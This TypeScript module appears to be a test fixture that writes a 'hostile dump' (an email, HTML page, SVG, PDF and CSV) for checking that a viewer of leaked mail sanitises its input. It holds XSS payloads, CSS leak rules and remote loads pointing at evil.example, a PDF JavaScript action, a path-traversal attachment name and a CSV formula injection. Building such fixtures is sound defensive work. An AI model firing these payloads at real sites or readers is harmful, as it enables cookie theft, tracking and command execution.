import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** What an attacker would like to run in the browser of whoever reads the leak. */
export const SCRIPT = '<script>alert(document.cookie)</script>';
export const HANDLER = '<img src=x onerror=alert(1)>';

/** A PNG of one red pixel. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC',
  'base64',
);

const HOSTILE_HTML = `<html><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/sheet.css">
<style>@import url("https://evil.example/import.css");
@font-face { font-family: x; src: url(https://evil.example/font.woff) }
input[value^="a"] { background: url(https://evil.example/leak?a) }
b { color: red; background-image: \\75rl(https://evil.example/escaped) }
p::before { content: "</style><script>alert(2)</script>" }
.fine { color: blue; font-weight: bold }</style></head>
<body background="https://evil.example/background.png" onload="alert(3)">
${SCRIPT}<SCRIPT SRC=//evil.example/x.js></SCRIPT><svg onload=alert(4)><script>alert(5)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(7)>"></noscript>
<p style="background:url('https://evil.example/style.png');color:green;position:fixed;top:0" class="fine">Bonjour <b>Zoé</b></p>
<a href="javascript:alert(8)">one</a> <a href="https://evil.example/phish" target="_top">two</a>
<img src="https://evil.example/pixel.gif" alt="a pixel"><img src="cid:logo@x" alt="logo"><img src="cid:evil@x">
<img srcset="https://evil.example/set.png 2x" src="data:text/html,<script>alert(9)</script>">
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object.swf"></object>
<form action="https://evil.example/form"><input name=q><button>go</button></form>
<video poster="https://evil.example/poster.png"><source src="https://evil.example/v.mp4"></video>
</body></html>`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(10)"><script>alert(11)</script></svg>`;
const PDF = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

/** Writes a dump whose every name, header and body attacks the reader. */
export function writeHostileDump(folder: string): void {
  mkdirSync(folder, { recursive: true });
  const attachment = (type: string, name: string, content: Uint8Array | string, extra = '') =>
    `--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Transfer-Encoding: base64\r\n${extra}\r\n${Buffer.from(content).toString('base64')}\r\n`;
  const message = [
    `From: "${HANDLER.replaceAll('"', '')}" <evil@evil.example>`,
    'To: <victim@campagne.example>',
    `Subject: ${SCRIPT}`,
    'Date: Fri, 05 May 2017 20:00:00 +0200',
    'Message-ID: <hostile@evil.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary=b',
    '',
    `--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(HOSTILE_HTML).toString('base64')}\r\n`,
    attachment('image/png', 'logo.png', PIXEL, 'Content-ID: <logo@x>\r\n'),
    attachment('image/png', 'evil.png', SVG, 'Content-ID: <evil@x>\r\n'),
    attachment('text/html', '../../<script>.html', HOSTILE_HTML, 'Content-Disposition: attachment\r\n'),
    attachment('image/svg+xml', 'picture.svg', SVG, 'Content-Disposition: attachment\r\n'),
    attachment('application/pdf', 'run.pdf', PDF, 'Content-Disposition: attachment\r\n'),
    '--b--\r\n',
  ].join('\r\n');
  writeFileSync(join(folder, 'hostile.eml'), message);
  writeFileSync(join(folder, 'page.html'), HOSTILE_HTML);
  writeFileSync(join(folder, 'picture.svg'), SVG);
  writeFileSync(join(folder, 'pixel.png'), PIXEL);
  writeFileSync(join(folder, 'sheet.csv'), '=cmd|calc!A1,<script>alert(12)</script>\n1,2\n');
}
